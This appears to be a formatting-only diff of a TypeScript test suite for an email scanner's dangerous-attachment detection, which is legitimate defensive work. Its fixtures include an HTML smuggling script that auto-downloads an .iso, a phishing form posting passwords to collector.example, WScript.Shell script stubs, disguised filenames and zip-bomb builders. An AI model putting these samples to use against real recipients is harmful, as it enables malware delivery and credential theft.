@@ -11,50 +11,95 @@ const PDF = Buffer.from("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n");
 const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32)]);
 const OLE_HEADER = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
 
-async function ids(files: Array<{ filename: string; content: Buffer; contentType?: string }>): Promise<string[]> {
+async function ids(
+  files: Array<{ filename: string; content: Buffer; contentType?: string }>,
+): Promise<string[]> {
   return (await attachmentSignals(files)).map((s) => s.id).sort();
 }
 
 describe("dangerous attachments", () => {
   it("flags executables by extension and by content, and scripts", async () => {
     expect(await ids([{ filename: "setup.exe", content: PE }])).toEqual(["attachment.executable"]);
-    expect(await ids([{ filename: "photo.iso", content: Buffer.alloc(64) }])).toEqual(["attachment.executable"]);
-    expect(await ids([{ filename: "invoice.js", content: Buffer.from("WScript.Shell") }])).toEqual(["attachment.script"]);
+    expect(await ids([{ filename: "photo.iso", content: Buffer.alloc(64) }])).toEqual([
+      "attachment.executable",
+    ]);
+    expect(await ids([{ filename: "invoice.js", content: Buffer.from("WScript.Shell") }])).toEqual([
+      "attachment.script",
+    ]);
     expect(await ids([{ filename: "statement.pdf", content: PE }])).toEqual(["attachment.executable"]);
   });
 
   it("flags double extensions and right-to-left-override names", async () => {
-    expect(await ids([{ filename: "invoice.pdf.exe", content: PE }])).toEqual(["attachment.double_extension", "attachment.executable"]);
-    expect(await ids([{ filename: "report\u202Efdp.scr", content: PE }])).toEqual(["attachment.double_extension", "attachment.executable"]);
+    expect(await ids([{ filename: "invoice.pdf.exe", content: PE }])).toEqual([
+      "attachment.double_extension",
+      "attachment.executable",
+    ]);
+    expect(await ids([{ filename: "report\u202Efdp.scr", content: PE }])).toEqual([
+      "attachment.double_extension",
+      "attachment.executable",
+    ]);
   });
 
   it("flags a file whose content does not match its extension", async () => {
     expect(await ids([{ filename: "scan.pdf", content: PNG }])).toEqual(["attachment.type_mismatch"]);
-    expect(await ids([{ filename: "scan.pdf", contentType: "image/png", content: Buffer.alloc(10) }])).toEqual(["attachment.type_mismatch"]);
-    expect(await ids([{ filename: "scan.pdf", contentType: "application/octet-stream", content: PDF }])).toEqual([]);
+    expect(
+      await ids([{ filename: "scan.pdf", contentType: "image/png", content: Buffer.alloc(10) }]),
+    ).toEqual(["attachment.type_mismatch"]);
+    expect(
+      await ids([{ filename: "scan.pdf", contentType: "application/octet-stream", content: PDF }]),
+    ).toEqual([]);
     expect(await ids([{ filename: "scan.pdf", contentType: "application/pdf", content: PDF }])).toEqual([]);
   });
 
   it("flags HTML smuggling and phishing pages, but not a plain HTML attachment", async () => {
-    const smuggle = '<html><script>var b=atob("TVqQ");var blob=new Blob([b]);var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="x.iso";a.click();</script></html>';
-    expect(await ids([{ filename: "Document.html", content: Buffer.from(smuggle) }])).toEqual(["attachment.html_smuggling"]);
-    const page = '<html><form action="https://collector.example/p" method="post"><input type="password" name="pw"></form></html>';
+    const smuggle =
+      '<html><script>var b=atob("TVqQ");var blob=new Blob([b]);var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="x.iso";a.click();</script></html>';
+    expect(await ids([{ filename: "Document.html", content: Buffer.from(smuggle) }])).toEqual([
+      "attachment.html_smuggling",
+    ]);
+    const page =
+      '<html><form action="https://collector.example/p" method="post"><input type="password" name="pw"></form></html>';
     const signals = await attachmentSignals([{ filename: "Voicemail.htm", content: Buffer.from(page) }]);
     expect(signals.map((s) => s.id)).toEqual(["attachment.html_form"]);
-    expect(await ids([{ filename: "newsletter.html", content: Buffer.from("<html><body><h1>News</h1></body></html>") }])).toEqual([]);
+    expect(
+      await ids([
+        { filename: "newsletter.html", content: Buffer.from("<html><body><h1>News</h1></body></html>") },
+      ]),
+    ).toEqual([]);
   });
 
   it("flags macro documents by extension, in OLE files and in renamed OOXML files", async () => {
-    expect(await ids([{ filename: "budget.xlsm", content: buildZip([{ name: "xl/workbook.xml", content: Buffer.from("<x/>") }]) }])).toEqual(["attachment.macro"]);
-    const ole = Buffer.concat([OLE_HEADER, Buffer.alloc(500), Buffer.from("_VBA_PROJECT", "utf16le"), Buffer.alloc(100)]);
+    expect(
+      await ids([
+        {
+          filename: "budget.xlsm",
+          content: buildZip([{ name: "xl/workbook.xml", content: Buffer.from("<x/>") }]),
+        },
+      ]),
+    ).toEqual(["attachment.macro"]);
+    const ole = Buffer.concat([
+      OLE_HEADER,
+      Buffer.alloc(500),
+      Buffer.from("_VBA_PROJECT", "utf16le"),
+      Buffer.alloc(100),
+    ]);
     expect(await ids([{ filename: "letter.doc", content: ole }])).toEqual(["attachment.macro"]);
-    const docxWithMacros = buildZip([{ name: "[Content_Types].xml", content: Buffer.from("<Types/>") }, { name: "word/vbaProject.bin", content: Buffer.alloc(64, 1) }]);
+    const docxWithMacros = buildZip([
+      { name: "[Content_Types].xml", content: Buffer.from("<Types/>") },
+      { name: "word/vbaProject.bin", content: Buffer.alloc(64, 1) },
+    ]);
     expect(await ids([{ filename: "contract.docx", content: docxWithMacros }])).toEqual(["attachment.macro"]);
   });
 
   it("does not flag ordinary documents, images, archives of documents or developer scripts", async () => {
-    const docx = buildZip([{ name: "[Content_Types].xml", content: Buffer.from("<Types/>") }, { name: "word/document.xml", content: Buffer.from("<w:document/>") }]);
-    const zip = buildZip([{ name: "notes.txt", content: Buffer.from("hello") }, { name: "scan.pdf", content: PDF }]);
+    const docx = buildZip([
+      { name: "[Content_Types].xml", content: Buffer.from("<Types/>") },
+      { name: "word/document.xml", content: Buffer.from("<w:document/>") },
+    ]);
+    const zip = buildZip([
+      { name: "notes.txt", content: Buffer.from("hello") },
+      { name: "scan.pdf", content: PDF },
+    ]);
     const oleClean = Buffer.concat([OLE_HEADER, Buffer.alloc(600)]);
     expect(
       await ids([
@@ -70,20 +115,31 @@ describe("dangerous attachments", () => {
   });
 
   it("looks inside zips, including nested ones, for programs and scripts", async () => {
-    const inner = buildZip([{ name: "payload.js", content: Buffer.from("new ActiveXObject('WScript.Shell')") }]);
-    const outer = buildZip([{ name: "readme.txt", content: Buffer.from("open me") }, { name: "docs/inner.zip", content: inner }]);
+    const inner = buildZip([
+      { name: "payload.js", content: Buffer.from("new ActiveXObject('WScript.Shell')") },
+    ]);
+    const outer = buildZip([
+      { name: "readme.txt", content: Buffer.from("open me") },
+      { name: "docs/inner.zip", content: inner },
+    ]);
     const signals = await attachmentSignals([{ filename: "order.zip", content: outer }]);
     expect(signals.map((s) => s.id)).toEqual(["attachment.archive_dangerous"]);
     expect(signals[0]?.label).toContain("order.zip/docs/inner.zip/payload.js");
-    expect(await ids([{ filename: "pics.zip", content: buildZip([{ name: "IMG_0001.jpg.exe", content: PE }]) }])).toEqual(["attachment.archive_dangerous", "attachment.double_extension"]);
-    expect(await ids([{ filename: "data.zip", content: buildZip([{ name: "data.txt", content: PE }]) }])).toEqual(["attachment.archive_dangerous"]);
+    expect(
+      await ids([{ filename: "pics.zip", content: buildZip([{ name: "IMG_0001.jpg.exe", content: PE }]) }]),
+    ).toEqual(["attachment.archive_dangerous", "attachment.double_extension"]);
+    expect(
+      await ids([{ filename: "data.zip", content: buildZip([{ name: "data.txt", content: PE }]) }]),
+    ).toEqual(["attachment.archive_dangerous"]);
   });
 
   it("flags password-protected zips", async () => {
     const encrypted = buildZip([{ name: "invoice.pdf", content: PDF, encrypted: true }]);
     const report = await inspectZip(encrypted);
     expect(report.encrypted).toBe(true);
-    expect(await ids([{ filename: "invoice.zip", content: encrypted }])).toEqual(["attachment.encrypted_archive"]);
+    expect(await ids([{ filename: "invoice.zip", content: encrypted }])).toEqual([
+      "attachment.encrypted_archive",
+    ]);
   });
 
   it("detects zip bombs as a signal without expanding them", async () => {
@@ -96,33 +152,54 @@ describe("dangerous attachments", () => {
     const liar = buildZip([{ name: "a.txt", content: Buffer.from("small"), declaredSize: 0xfffffff0 }]);
     expect((await inspectZip(liar)).bomb).toMatch(/expands to more than/);
 
-    const many = buildZip(Array.from({ length: 2100 }, (_, i) => ({ name: `f${i}.txt`, content: Buffer.from("x") })));
+    const many = buildZip(
+      Array.from({ length: 2100 }, (_, i) => ({ name: `f${i}.txt`, content: Buffer.from("x") })),
+    );
     expect((await inspectZip(many)).bomb).toMatch(/2100 entries/);
 
     let nested = buildZip([{ name: "core.txt", content: Buffer.from("x") }]);
-    for (let depth = 0; depth < 5; depth++) nested = buildZip([{ name: `level${depth}.zip`, content: nested }]);
+    for (let depth = 0; depth < 5; depth++)
+      nested = buildZip([{ name: `level${depth}.zip`, content: nested }]);
     expect((await inspectZip(nested)).bomb).toMatch(/nested more than/);
   });
 
   it("reports broken and unopenable archives instead of throwing", async () => {
     const zip = buildZip([{ name: "a.txt", content: Buffer.from("hello world") }]);
-    expect(await ids([{ filename: "broken.zip", content: zip.subarray(0, zip.length - 30) }])).toEqual(["attachment.unscannable_archive"]);
-    expect(await ids([{ filename: "files.rar", content: Buffer.from("Rar!\x1a\x07\x00rest") }])).toEqual(["attachment.unscannable_archive"]);
+    expect(await ids([{ filename: "broken.zip", content: zip.subarray(0, zip.length - 30) }])).toEqual([
+      "attachment.unscannable_archive",
+    ]);
+    expect(await ids([{ filename: "files.rar", content: Buffer.from("Rar!\x1a\x07\x00rest") }])).toEqual([
+      "attachment.unscannable_archive",
+    ]);
     const report = await inspectZip(Buffer.from("PK\x03\x04 not really a zip"));
     expect(report.error).not.toBeNull();
   });
 
   it("marks malware so that a permitted sender's message is still held", async () => {
-    const raw = buildRaw({ from: "Partner <ap@partner.example>", text: "Invoice attached", attachments: [{ filename: "invoice.pdf.exe", content: PE }] });
+    const raw = buildRaw({
+      from: "Partner <ap@partner.example>",
+      text: "Invoice attached",
+      attachments: [{ filename: "invoice.pdf.exe", content: PE }],
+    });
     const a = await new BuiltinScanner().assess(await scanInput(raw));
     expect(a.malware).toBe(true);
-    const d = decide(a, { org: [{ id: "o1", scope: "tenant", kind: "permit", pattern: "partner.example" }], personal: [] });
+    const d = decide(a, {
+      org: [{ id: "o1", scope: "tenant", kind: "permit", pattern: "partner.example" }],
+      personal: [],
+    });
     expect(d).toMatchObject({ action: "hold", reason: "dangerous_attachment" });
   });
 
   it("checks attachments of attached messages (message/rfc822)", async () => {
-    const inner = buildRaw({ from: "x@example.net", text: "see file", attachments: [{ filename: "tool.exe", content: PE }] });
-    const outer = buildRaw({ text: "forwarding", attachments: [{ filename: "fwd.eml", contentType: "message/rfc822", content: inner }] });
+    const inner = buildRaw({
+      from: "x@example.net",
+      text: "see file",
+      attachments: [{ filename: "tool.exe", content: PE }],
+    });
+    const outer = buildRaw({
+      text: "forwarding",
+      attachments: [{ filename: "fwd.eml", contentType: "message/rfc822", content: inner }],
+    });
     const a = await new BuiltinScanner().assess(await scanInput(outer));
     expect(a.signals.map((s) => s.id)).toContain("attachment.executable");
   });
